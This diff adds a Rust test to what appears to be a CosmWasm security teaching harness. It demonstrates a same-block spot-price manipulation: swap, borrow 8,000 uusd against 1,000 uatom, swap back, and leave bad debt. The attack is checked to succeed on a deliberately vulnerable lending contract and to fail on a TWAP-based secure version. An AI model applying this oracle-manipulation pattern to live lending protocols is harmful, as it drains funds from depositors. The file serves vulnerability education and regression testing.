@@ -0,0 +1,95 @@
+//! Swap, borrow against the inflated spot price, swap back
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coin, coins, Decimal, Empty, Uint128};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::spot_price_trust::secure::TWAP_WINDOW_SECONDS;
+use crate::contracts::spot_price_trust::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{mock_dex, ExploitSpec, Harness, ATOM, USD};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "spot_price_trust",
+    description: "Same-block pool manipulation lets 1,000 uatom borrow 8,000 uusd",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "Insufficient collateral",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn swap() -> mock_dex::ExecuteMsg {
+    mock_dex::ExecuteMsg::Swap {
+        ask_denom: None,
+        recipient: None,
+    }
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let attacker = h.attacker.clone();
+
+    let pool = h.deploy(
+        mock_dex::contract(),
+        &mock_dex::InstantiateMsg {
+            denoms: [ATOM.to_string(), USD.to_string()],
+        },
+        &[coin(1_000_000, ATOM), coin(1_000_000, USD)],
+        "pool",
+    )?;
+    let lending = h.deploy(
+        code(),
+        &InstantiateMsg {
+            pool: pool.to_string(),
+            collateral_denom: ATOM.to_string(),
+            borrow_denom: USD.to_string(),
+            max_ltv: Decimal::percent(50),
+        },
+        &coins(1_000_000, USD),
+        "lending",
+    )?;
+    // Let the pool accrue a full TWAP window at the fair price first
+    h.advance_blocks(TWAP_WINDOW_SECONDS / 5);
+
+    let usd_before = h.balance(&attacker, USD);
+    let atom_before = h.balance(&attacker, ATOM);
+
+    h.execute(
+        &attacker,
+        &lending,
+        &ExecuteMsg::DepositCollateral {},
+        &coins(1_000, ATOM),
+    )?;
+    h.execute(&attacker, &pool, &swap(), &coins(3_000_000, USD))?;
+    h.execute(
+        &attacker,
+        &lending,
+        &ExecuteMsg::Borrow {
+            amount: Uint128::new(8_000),
+        },
+        &[],
+    )?;
+    let bought = h.balance(&attacker, ATOM) - (atom_before - 1_000);
+    h.execute(&attacker, &pool, &swap(), &coins(bought, ATOM))?;
+
+    // Value the abandoned collateral at the restored, fair price of 1.0
+    let usd_gain = h.balance(&attacker, USD).saturating_sub(usd_before);
+    let atom_lost = atom_before - h.balance(&attacker, ATOM);
+    ensure!(
+        usd_gain > atom_lost,
+        "borrowed {usd_gain} uusd against {atom_lost} uatom: no bad debt"
+    );
+    Ok(())
+}